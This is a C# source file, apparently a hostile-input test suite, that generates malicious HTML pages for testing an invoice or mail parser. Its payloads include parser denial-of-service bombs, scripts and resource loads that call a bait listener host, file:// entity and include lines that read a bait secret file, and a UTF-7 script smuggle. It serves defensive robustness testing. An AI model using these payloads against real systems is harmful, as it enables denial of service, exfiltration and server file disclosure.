using static Mailroom.Hostile.Making.Bytes;

namespace Mailroom.Hostile.Html;

/// <summary>Pages that load, run, or cost much.</summary>
internal static class HtmlAttacks
{
    private const string Start = "<!DOCTYPE html><html><body>";

    public static IEnumerable<Attack> All(Bait bait) =>
    [
        new("html-open-elements", "A million elements are opened and none is closed.", () => Utf8(Start + Times("<div>", 1_000_000) + "Invoice number")),
        new("html-open-formats", "A million formats are opened, each to be repeated in what follows.", () => Utf8(Start + Times("<b><p>", 1_000_000) + "Invoice number")),
        new("html-few-formats", "Five hundred formats are repeated in each of thousands of paragraphs.", () => Utf8(Start + Times("<font>", 500) + Times("<p>a", 3_900))),
        new("html-misnested", "Links and formats are closed in the wrong order, a hundred thousand times.", () => Utf8(Start + Times("<a><b><i><a></b></i><p></a>", 100_000))),
        new("html-nested-tables", "Tables within tables, five hundred deep, with text where none may stand.", () => Utf8(Start + Times("<table>x<tr>y<td>", 500) + "Invoice number")),
        new("html-text-in-tables", "Two hundred thousand texts in a table where none may stand.", () => Utf8(Start + "<table>" + Times("<tr>x", 200_000) + "</table>")),
        new("html-end-tags", "Two million elements are closed that were never open.", () => Utf8(Start + Times("</p></br></i>", 700_000) + "Invoice number")),
        new("html-million-elements", "Just as many elements as may be read.", () => Utf8(Start + Times("<br>a", 1_900_000))) { IsSlow = true },
        new("html-attributes", "An element of a million attributes.", () => Utf8(Start + "<p " + string.Concat(Enumerable.Range(0, 1_000_000).Select(number => $"a{number} ")) + ">Invoice number")),
        new("html-long-attribute", "An attribute of fifteen megabytes.", () => Utf8(Start + $"<p style=\"{Times("a:b;", 3_700_000)}\">Invoice number")),
        new("html-style-bomb", "A style sheet of a million rules.", () => Utf8("<html><style>" + Times("*>*~*+*{background:url(x)}", 550_000) + "</style><body>Invoice number")),
        new("html-entities", "Three million characters by their names, and by impossible numbers.", () => Utf8(Start + Times("&amp;&#x110000;&#0;&CounterClockwiseContourIntegral", 250_000))),
        new("html-comments", "A comment that never ends, of ten million dashes.", () => Utf8(Start + "Invoice number <!--" + new string('-', 10_000_000))),
        new("html-comment-flood", "Two million comments before the page begins.", () => Utf8(Times("<!---->", 2_000_000) + "<html>Invoice number")),
        new("html-less-thans", "Fifteen million signs that might begin an element.", () => Utf8(Start + Times("<", 15_000_000))),
        new("html-templates", "Templates, drawings and formulas within each other.", () => Utf8(Start + Times("<template><svg><foreignObject><math><mi>", 100) + "Invoice number")),
        new("html-selects", "Lists to choose from within each other.", () => Utf8(Start + Times("<select><option><optgroup>", 300_000) + "Invoice number")),
        new("html-framesets", "Frames within frames.", () => Utf8("<html>" + Times("<frameset><frame>", 300_000))),
        new("html-scripts", "Scripts that run for ever, write the page, and call home.", () => Utf8(
            Start + $"<script>while(true){{fetch('{bait.Listener}')}}</script><script src={bait.Listener}s.js></script><body onload=\"location='{bait.Listener}'\"><svg onload=fetch('{bait.Listener}')><p>Invoice number")),
        new("html-remote-parts", "Pictures, styles, frames, fonts and sounds are to be loaded from the network.", () => Utf8(
            $"<html><head><base href={bait.Listener}><link rel=stylesheet href=a.css><link rel=preload href=b as=font><link rel=dns-prefetch href=//x><style>@import url({bait.Listener}c.css);body{{background:url(d)}}</style></head><body background=e>"
            + $"<img src=f srcset='g 2x'><iframe src=h srcdoc='<img src=i>'></iframe><object data=j></object><embed src=k><video poster=l src=m></video><audio src=n></audio><input type=image src=o><picture><source srcset=p></picture><p>Invoice number")),
        new("html-refresh", "The page goes on to another one.", () => Utf8($"<html><head><meta http-equiv=refresh content=\"0;url={bait.Listener}\"><meta http-equiv=Content-Security-Policy content=\"report-uri {bait.Listener}\"></head><body>Invoice number")),
        new("html-server-files", "Frames and entities point at files of the server.", () => Utf8($"<!DOCTYPE html SYSTEM \"file://{bait.SecretFile}\" [<!ENTITY x SYSTEM \"file://{bait.SecretFile}\">]><html><body>&x;<iframe src=\"file://{bait.SecretFile}\"></iframe><!--#include file=\"{bait.SecretFile}\"-->Invoice number")),
        new("html-hidden-text", "A visible line among a million that are hidden.", () => Utf8(Start + Times("<i hidden>x</i>", 600_000) + "Invoice number")),
        new("html-charset", "A page in an encoding that hides markup.", () => Utf8("<html><head><meta charset=utf-7></head><body>+ADw-script+AD4-alert(1) Invoice number")),
    ];
}
